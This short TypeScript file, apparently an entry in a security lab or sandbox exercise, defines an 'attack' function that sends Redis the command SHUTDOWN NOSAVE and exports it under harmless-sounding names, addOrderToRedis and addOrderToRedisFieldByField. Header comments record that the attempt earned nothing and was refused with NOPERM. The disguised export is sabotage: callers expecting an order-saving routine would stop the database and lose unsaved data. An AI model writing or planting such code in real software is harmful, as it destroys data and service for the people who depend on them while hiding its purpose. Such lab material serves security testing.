// tries: shutting Redis down
// lab: 03
// earns: 0
// told: NOPERM
async function attack({ redis }: any): Promise<void> {
  await redis.call('SHUTDOWN', 'NOSAVE');
}

export const addOrderToRedisFieldByField = attack;
export const addOrderToRedis = attack;
